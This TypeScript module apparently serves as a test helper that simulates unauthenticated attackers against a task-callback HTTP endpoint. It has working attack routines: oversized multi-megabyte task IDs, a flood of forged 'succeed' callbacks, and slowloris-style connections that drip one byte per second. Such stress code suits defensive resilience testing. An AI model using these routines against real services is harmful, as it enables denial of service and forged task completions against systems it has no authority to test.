import { once } from 'node:events';
import { Agent, request } from 'node:http';
import { type Socket, connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** What strangers do who know an address. Nothing here needs a key. */

/** How many of each status came; 0 stands for a connection that was cut. */
export type Statuses = Record<number, number>;

const count = (statuses: Statuses, status: number) =>
	(statuses[status] = (statuses[status] ?? 0) + 1);

async function post(url: string, body: string, agent?: Agent): Promise<number> {
	return await new Promise((resolve) => {
		const headers = { 'content-type': 'application/json' };
		const call = request(url, { method: 'POST', headers, agent }, (answer) => {
			answer.once('error', () => resolve(0)).resume();
			answer.once('end', () => resolve(answer.statusCode ?? 0));
		});
		call.once('error', () => resolve(0)).end(body);
	});
}

/** Calls one after the other, each naming a task by an id of so many megabytes. */
export async function hugeIds(url: string, calls: number, megabytes: number): Promise<Statuses> {
	const statuses: Statuses = {};
	for (let n = 0; n < calls; n += 1) {
		// Digits all: a number that is kept exactly costs most.
		const task_id = String(n).padEnd(megabytes * 1024 * 1024, '7');
		const body = `{"task_id":${n % 2 ? task_id : `"${task_id}"`},"task_status":"succeed"}`;
		count(statuses, await post(url, body));
	}
	return statuses;
}

/** Forged final callbacks, as many as are answered in that time. */
export async function forge(url: string, seconds: number, atOnce = 20): Promise<Statuses> {
	const statuses: Statuses = {};
	const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
	const end = performance.now() + seconds * 1000;
	let made = 0;
	const sender = async () => {
		while (performance.now() < end) {
			const task_id = `8${String((made += 1)).padStart(17, '0')}`;
			const body = { task_id, task_status: 'succeed', task_result: {} };
			count(statuses, await post(url, JSON.stringify(body), agent));
		}
	};
	await Promise.all(Array.from({ length: atOnce }, sender));
	agent.destroy();
	return statuses;
}

/** Connections that send a byte each second, and never a whole body. @param meanwhile what is looked at while they do */
export async function drip<T>(
	url: string,
	connections: number,
	seconds: number,
	meanwhile: () => Promise<T>,
): Promise<T> {
	const { hostname, port, pathname, search } = new URL(url);
	const head = `POST ${pathname}${search} HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`;
	const sockets = await Promise.all(
		Array.from({ length: connections }, async (): Promise<Socket> => {
			const socket = connect(Number(port), hostname).on('error', () => undefined);
			await once(socket, 'connect');
			socket.write(head);
			return socket;
		}),
	);
	const timer = setInterval(() => {
		for (const socket of sockets) if (socket.writable) socket.write(' ');
	}, 1_000);
	try {
		await sleep(seconds * 1000);
		return await meanwhile();
	} finally {
		clearInterval(timer);
		for (const socket of sockets) socket.destroy();
	}
}
